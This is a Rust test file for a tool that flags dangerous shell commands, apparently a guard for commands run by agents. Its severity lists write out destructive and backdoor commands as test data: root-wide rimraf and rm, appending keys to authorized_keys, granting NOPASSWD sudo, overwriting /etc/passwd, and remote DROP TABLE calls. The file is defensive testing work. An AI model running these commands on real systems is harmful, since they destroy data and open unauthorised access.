//! Runs the examples of every row, and properties that hold for any arguments.

use super::*;
use crate::tables::tests::{Example, examples};

/// A simple command line: words, quotes, variables, and a text to read after `<<<`; no operators.
fn invocation(line: &str) -> Invocation {
    let (line, input) = match line.split_once(" <<< ") {
        Some((line, text)) => (line, Input::Text(text.to_owned())),
        None => (line, Input::Inherited),
    };
    let mut words = split(line);
    let program = if words.is_empty() { Arg::default() } else { words.remove(0) };
    Invocation {
        program: program.text.rsplit('/').next().unwrap_or_default().to_owned(),
        args: words,
        folder: Folder::Known(String::new()),
        is_remote: false,
        has_more_args: line.contains("{}"),
        input,
        start: 0,
        end: line.len(),
        ..Invocation::default()
    }
}

fn dangers(line: &str) -> Vec<Danger> {
    judge(&invocation(line))
}

/// Whether one danger is found in a line.
fn is_stopped(line: &str, id: &str) -> bool {
    let invocation = invocation(line);
    let invocation = launch::inner(&invocation, &[]).unwrap_or(invocation);
    let program = programs::row(&invocation.program.to_ascii_lowercase());
    let rules: Vec<&'static Rule> = program.dangers.iter().copied().filter(|rule| rule.id == id).collect();
    judge_call(&rules, &Call::new(&invocation, program, &[])).iter().any(|danger| !danger.is_inside)
}

fn split(line: &str) -> Vec<Arg> {
    let mut words = Vec::new();
    let mut word: Option<Arg> = None;
    let mut quote = None;
    let mut letters = line.char_indices().peekable();
    while let Some((at, letter)) = letters.next() {
        match (letter, quote) {
            ('\'' | '"', None) => {
                quote = Some(letter);
                word.get_or_insert_default();
            }
            (_, Some(open)) if open == letter => quote = None,
            (' ', None) => words.extend(word.take()),
            ('$', None | Some('"')) => {
                let rest = &line[at..];
                let length = match rest.as_bytes().get(1) {
                    Some(b'{') => rest.find('}').map_or(rest.len(), |end| end + 1),
                    Some(b'(') => rest.find(')').map_or(rest.len(), |end| end + 1),
                    _ => rest[1..]
                        .find(|c: char| !c.is_alphanumeric() && c != '_')
                        .map_or(rest.len(), |end| end + 1),
                };
                let word = word.get_or_insert_default();
                word.unknown.push(word.text.len()..word.text.len() + length);
                word.text.push_str(&rest[..length]);
                while letters.peek().is_some_and(|(next, _)| *next < at + length) {
                    letters.next();
                }
            }
            _ => {
                let word = word.get_or_insert_default();
                word.is_glob |= quote.is_none() && matches!(letter, '*' | '?' | '[');
                word.text.push(letter);
            }
        }
    }
    words.extend(word);
    words
}

#[test]
fn dangers_are_found_in_their_examples() {
    let mut wrong = Vec::new();
    for Example { id, stops, passes } in examples("danger") {
        for line in stops.iter().filter(|line| !is_stopped(line, &id)) {
            wrong.push(format!("{id}: does not stop `{line}`: {:?}", dangers(line)));
        }
        for line in passes {
            let stopped: Vec<_> = dangers(&line).into_iter().filter(|danger| !danger.is_inside).collect();
            if !stopped.is_empty() {
                wrong.push(format!("{id}: does not pass `{line}`: {stopped:?}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn examples_hold_for_whole_command_lines() {
    let is_stopped =
        |line: &str| crate::command::analyse(line).dangers.iter().any(|danger| !danger.is_inside);
    let mut wrong = Vec::new();
    for Example { id, stops, passes } in examples("danger") {
        let stops = stops.iter().filter(|line| !is_stopped(line)).map(|line| ("does not stop", line));
        let passes = passes.iter().filter(|line| is_stopped(line)).map(|line| ("does not pass", line));
        wrong.extend(stops.chain(passes).map(|(what, line)| format!("{id}: {what} `{line}`")));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn options_that_a_program_may_ignore_make_nothing_harmless() {
    let mut wrong = Vec::new();
    for Example { id, stops, .. } in examples("danger") {
        let ends_with_option = |line: &str| line.rsplit(' ').next().is_some_and(|last| last.starts_with('-'));
        // `find` has an expression instead of options.
        let takes_options =
            |line: &&String| !line.contains("<<<") && !line.starts_with("find ") && !ends_with_option(line);
        for line in stops.iter().filter(takes_options) {
            for options in
                ["--noop", "--help=false", "--no-such-option --help", "--dry-run=false", "--help --no-help"]
            {
                let line = format!("{line} {options}");
                if !is_stopped(&line, &id) {
                    wrong.push(format!("{id}: {line}"));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{} hidden:\n{}", wrong.len(), wrong.join("\n"));
}

fn arg(text: &str) -> Arg {
    split(text).remove(0)
}

fn place_of(text: &str, folder: &str) -> Place {
    place::locate(&arg(text), &Folder::Known(folder.to_owned()), false).place
}

#[test]
fn places_are_found_by_spelling() {
    for (text, folder, expected) in [
        (".", "", Place::Start),
        ("./", "", Place::Start),
        ("*", "", Place::Start),
        (".*", "", Place::Start),
        ("build", "", Place::Inside),
        ("build/../src", "", Place::Inside),
        ("build/..", "", Place::Start),
        ("..", "", Place::Above),
        ("..", "src", Place::Start),
        ("*", "src", Place::Inside),
        ("*", "~", Place::Home),
        ("*", "/", Place::Root),
        ("x", "/etc", Place::System),
        ("../x", "src", Place::Inside),
        ("../../x", "src", Place::Above),
        (".git", "", Place::Repository),
        (".midrail/x", "", Place::Own),
        ("/", "", Place::Root),
        ("/*", "", Place::Root),
        ("//", "", Place::Root),
        ("/tmp/..", "", Place::Root),
        ("/tmp", "", Place::System),
        ("/tmp/*", "", Place::Temporary),
        ("/tmp/a", "", Place::Temporary),
        ("/private/tmp/a", "", Place::Temporary),
        ("/home/me", "", Place::Home),
        ("/home/me/x", "", Place::BelowHome),
        ("/Users/me/Documents/x", "", Place::Personal),
        ("~/.ssh", "", Place::Secret),
        ("~/.ssh/id_rsa.pub", "", Place::BelowHome),
        ("~root", "", Place::Home),
        ("/dev/null", "", Place::Sink),
        ("/dev/sda1", "", Place::Device),
        ("/usr/local/x", "", Place::Elsewhere),
        ("/usr/local", "", Place::System),
        ("$X", "", Place::Unknown),
        ("$X/", "", Place::UnknownRoot),
        ("$X/*", "", Place::UnknownRoot),
        ("$X/etc", "", Place::UnknownRoot),
        ("${X:?}/", "", Place::Unknown),
        ("/$X", "", Place::UnknownRoot),
        ("build/$X", "", Place::Inside),
        ("./$X", "", Place::Unknown),
        ("/tmp/$X", "", Place::Temporary),
        ("/home/$USER", "", Place::Home),
        ("/home/$USER/.cache/x", "", Place::Rebuilt),
        ("/home/user/project/node_modules", "", Place::Rebuilt),
        ("/workspace/app/dist", "", Place::Rebuilt),
        ("/srv/app/public", "", Place::Regenerated),
        ("/opt/build", "", Place::Regenerated),
        ("/var/lib/apt/lists/*", "", Place::Rebuilt),
        ("/var/lib/apt", "", Place::System),
        ("~/.cache/*", "", Place::Rebuilt),
        ("~/.Trash/*", "", Place::Regenerated),
        ("/etc/dist", "", Place::System),
        ("/usr/lib/node_modules", "", Place::System),
        ("~/.ssh/build", "", Place::Secret),
        ("~/.cache/..", "", Place::Home),
        ("~/dist", "", Place::BelowHome),
        ("/workspace/app/dist/..", "", Place::Elsewhere),
        ("$CARGO_TARGET_DIR", "", Place::Temporary),
        ("$CARGO_TARGET_DIR/*", "", Place::UnknownRoot),
        ("~/$X", "", Place::BelowHome),
        ("build/$X/../../..", "", Place::Above),
        ("$HOME/*", "", Place::Home),
        ("$HOME/a/b", "", Place::BelowHome),
        ("C:\\", "", Place::Root),
    ] {
        assert_eq!(place_of(text, folder), expected, "{text} in `{folder}`");
    }
}

#[test]
fn nothing_is_inside_on_another_machine() {
    for text in ["build", "/tmp/x", ".", "~/x", "/data"] {
        let place = place::locate(&arg(text), &Folder::Known(String::new()), true).place;
        assert_eq!(place, Place::Remote, "{text}");
    }
}

#[test]
fn targets_are_relative_to_the_start_folder() {
    for (text, folder, expected) in [
        ("x", "src", "src/x"),
        ("../x", "src", "x"),
        ("x", "/etc", "/etc/x"),
        ("*", "src", "src/*"),
        ("/a", "src", "/a"),
    ] {
        let target = place::locate(&arg(text), &Folder::Known(folder.to_owned()), false);
        assert_eq!(target.path, expected, "{text} in {folder}");
    }
}

#[test]
fn redirections_onto_important_files_are_reported() {
    let judge =
        |text: &str| judge_redirection(&arg(text), false, &Folder::Known(String::new()), false, (0, 1));
    for text in
        ["/etc/passwd", "/dev/sda", "~/.bash_history", "/var/log/syslog", "~/.bashrc", "/proc/sysrq-trigger"]
    {
        assert!(judge(text).is_some(), "{text}");
    }
    for text in ["out.log", "/dev/null", "/tmp/x", "$LOG", "/dev/stderr", "../notes.txt"] {
        assert!(judge(text).is_none(), "{text}");
    }
    let append =
        |text: &str| judge_redirection(&arg(text), true, &Folder::Known(String::new()), false, (0, 1));
    assert!(append("~/.ssh/authorized_keys").is_some());
    assert!(append("app.log").is_none());
}

/// The worst of a whole command line, as the user would see it.
fn worst(line: &str) -> Option<Severity> {
    let dangers = crate::command::analyse(line).dangers;
    dangers.iter().filter(|danger| !danger.is_inside).map(|danger| danger.severity).max()
}

#[test]
fn whole_lines_have_their_danger() {
    let mut wrong = Vec::new();
    let mut check = |line: &str, fits: fn(Option<Severity>) -> bool| {
        let found = worst(line);
        if !fits(found) {
            wrong.push(format!(
                "{line}: {found:?} {:?}",
                crate::command::analyse(line).dangers.iter().map(|d| d.rule.clone()).collect::<Vec<_>>()
            ));
        }
    };
    for line in [
        "apt-get update && apt-get install -y git && rm -rf /var/lib/apt/lists/*",
        "rm -rf ~/.cache/pip ~/.npm/_cacache ~/.gradle/caches",
        "rm -rf ~/Library/Developer/Xcode/DerivedData",
        "rm -rf ~/.cache/*",
        "rm -rf /home/user/project/node_modules /workspace/app/dist /workspace/app/.venv",
        "rm -rf \"$CARGO_TARGET_DIR\"",
        "pip uninstall -y foo",
        "docker stop $(docker ps -q --filter name=x)",
        "docker push me/app:1",
        "curl -d '{\"sql\":\"DROP TABLE x\"}' localhost:3000/lint",
        "npx rimraf dist",
        "git checkout feature-x",
        "rm -rf /workspace/app/.next /workspace/app/build /workspace/app/target /workspace/app/coverage",
        "rm -rf /home/me/app/__pycache__ /home/me/app/.pytest_cache /home/me/app/venv",
        "sudo apt-get clean && sudo rm -rf /var/cache/apt/archives",
        "mongosh --eval 'db.users.deleteOne({_id:1})'",
        "python manage.py migrate app zero --plan",
        "git checkout -b fix origin/main",
        "git checkout main && git pull",
        "wget -qO- https://x.io/a | tar tz",
        "curl -fsSL https://x.io/a -o /tmp/a.tgz",
        "sort -u names.txt -o names.txt",
        "awk -F: '{ if ($3 > 1000) print $1 }' /etc/passwd",
        "usermod -aG audio me",
        "ssh -L 5432:db:5432 host",
        "pkill -f 'node server.js'",
        "pip install -r requirements.txt",
        "npm ci",
        "gh pr merge 5 --squash",
        "docker run --rm -v \"$PWD\":/app node npm test",
        "kill $(lsof -ti:3000)",
        "echo done >> notes.txt",
        "export HISTSIZE=10000",
        "lsof -ti:3000 | xargs kill -9",
        "jobs -p | xargs -r kill -9",
        "rails db:migrate RAILS_ENV=test",
    ] {
        check(line, |found| found.is_none());
    }
    for line in [
        "git checkout src/",
        "alembic downgrade -1",
        "npm run release",
        "kubectl delete pod web-1",
        "dropdb --if-exists test_db",
        "git checkout HEAD~3 src/",
        "git checkout a.rs b.rs",
        "git push https://elsewhere.io/x --all",
        "gh pr merge 3 --admin",
        "sudo usermod -aG docker me",
        "sudo adduser me sudo",
        "sudo setcap cap_net_raw+ep ./tool",
        "kubectl create clusterrolebinding x --clusterrole cluster-admin --user me",
        "gcloud projects add-iam-policy-binding p --member=user:x --role=roles/editor",
        "az role assignment create --assignee x --role Owner",
        "pip install --index-url http://x.io/simple foo",
        "npm config set registry http://x.io",
        "pip config set global.index-url https://x.io",
        "npm token create",
        "wget -O ~/.bashrc https://x.io/rc",
        "ps aux | grep node | xargs kill -9",
        "docker ps -q | xargs docker kill",
        "redis-cli --scan --pattern 'a:*' | xargs redis-cli del",
        "aws ecs update-service --service x --desired-count 0",
        "ssh -R 80:localhost:80 host",
    ] {
        check(line, |found| found == Some(Severity::Medium));
    }
    for line in [
        "npx rimraf ~",
        "curl -o /etc/passwd https://x.io",
        "echo key >> ~/.ssh/authorized_keys",
        "echo key | tee -a ~/.ssh/authorized_keys",
        "echo 'me ALL=(ALL) NOPASSWD: ALL' | visudo",
        "pkill -9 -f .",
        "taskkill /f /im *",
        "busybox rm -rf /etc",
        "sort -o /etc/passwd x",
        "ed /etc/passwd",
        "find . -fprintf /etc/passwd %p",
        "awk '{print > \"/etc/passwd\"}' x",
        "git read-tree -u --reset HEAD",
        "git -c clean.requireForce=false clean -d",
        "gh api graphql -f query='mutation { deleteIssue(input: {}) { x } }'",
        "passwd -d root",
        "echo root:x | chpasswd",
        "docker run -it -v /:/host alpine sh",
        "pkill -f ''",
        "killall5 -9",
        "redis-cli FLUSHALL",
        "redis-cli CONFIG SET dir /root/.ssh",
        "aws rds-data execute-statement --sql 'DROP TABLE x'",
        "az deployment group create --mode Complete -g x",
        "p4 obliterate -y //depot/...",
        "curl 'http://ch:8123/?query=DROP+TABLE+x'",
        "fc -p",
        "curl -X DELETE https://api.github.com/repos/o/r",
        "http DELETE 'http://es:9200/logs-*'",
        "pnpm dlx rimraf /",
        "bunx rimraf ~/work",
        "docker stack rm app",
        "yarn npm publish",
        "git submodule foreach 'git reset --hard'",
        "npx firebase-tools firestore:delete --all-collections",
        "apt-get purge -y '*'",
        "rsync -a --delete /tmp/empty/ /home/me/",
    ] {
        check(line, |found| found >= Some(Severity::High));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn one_command_is_reported_once() {
    for line in ["busybox rm -rf /etc", "find / -exec shred {} ;", "find / -delete", "rm -rf /etc"] {
        let dangers = crate::command::analyse(line).dangers;
        assert_eq!(dangers.len(), 1, "{line}: {dangers:?}");
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(256))]

    #[test]
    fn any_arguments_are_judged(
        rule in 0usize..10_000,
        words in proptest::collection::vec("[-a-z./*~$ {}=@é]{0,12}", 0..8),
    ) {
        let rows = examples("danger");
        let program = rows[rule % rows.len()].stops[0].split(' ').next().unwrap();
        let line = format!("{program} {}", words.join(" "));
        for danger in dangers(&line) {
            proptest::prop_assert!(danger.severity >= Severity::Medium);
            proptest::prop_assert!(danger.command.len() <= COMMAND_LENGTH + 4);
        }
    }

    #[test]
    fn a_named_folder_below_the_start_is_inside(name in "[a-z]{1,8}", below in "[a-z]{1,8}") {
        proptest::prop_assert_eq!(place_of(&format!("{name}/{below}"), ""), Place::Inside);
        proptest::prop_assert_eq!(place_of(&format!("{name}/../{below}/./x"), ""), Place::Inside);
        proptest::prop_assert_eq!(place_of(&format!("{name}/../../{below}"), ""), Place::Above);
    }
}
